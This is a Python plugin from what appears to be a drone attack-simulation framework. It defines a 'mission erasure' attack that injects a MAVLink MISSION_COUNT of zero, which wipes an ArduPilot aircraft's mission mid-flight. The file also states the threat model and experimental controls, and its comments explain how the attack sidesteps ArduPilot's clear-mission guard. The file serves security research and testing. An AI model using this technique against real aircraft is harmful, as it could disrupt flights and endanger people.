"""Mission erasure: the mission of an aircraft is removed in flight."""

from __future__ import annotations

from typing import Literal

from pydantic import Field

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, ThreatModel
from skyrange.attack.mavlink.injection import Injection, inject
from skyrange.attack.mavlink.script import Clear, Script, Step, Upload


class MissionErasure(Injection):
    """How the mission is removed."""

    by: Literal["MISSION_COUNT", "MISSION_CLEAR_ALL"] = Field(
        default="MISSION_COUNT",
        description="MISSION_COUNT of 0, an upload of nothing, removes a mission that is being flown; "
        "MISSION_CLEAR_ALL is rejected by ArduPilot in that state.",
    )


def make(params: MissionErasure, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for aircraft that are not in the scenario."""
    # AP_Mission::clear keeps a mission that runs; AP_Mission::truncate, which a MISSION_COUNT calls
    # (MissionItemProtocol_Waypoints::truncate), does not ask
    step: Step = Upload(()) if params.by == "MISSION_COUNT" else Clear()
    return Attack(taps=inject(params, context, Script, context.schedule, (step,)))


MISSION_CLEAR = AttackPlugin(
    MissionErasure,
    make,
    "Removes the mission of the aircraft in flight.",
    technique="T0809",
    surface=("gcs", "log", "autopilot"),
    persists="upload",
    effect="the mission ends in the air, and the aircraft holds where it is",
    threat=ThreatModel(
        knowledge="system ids, from any frame",
        position="on the network of the control link, or on board",
        equipment="a computer with a MAVLink library",
        budget="one frame",
    ),
    controls=Controls(
        load="the sham: the same frame, addressed to a system that is not there",
        content="MISSION_CLEAR_ALL, which an aircraft in AUTO rejects",
        placement="the same frame to another aircraft",
    ),
)
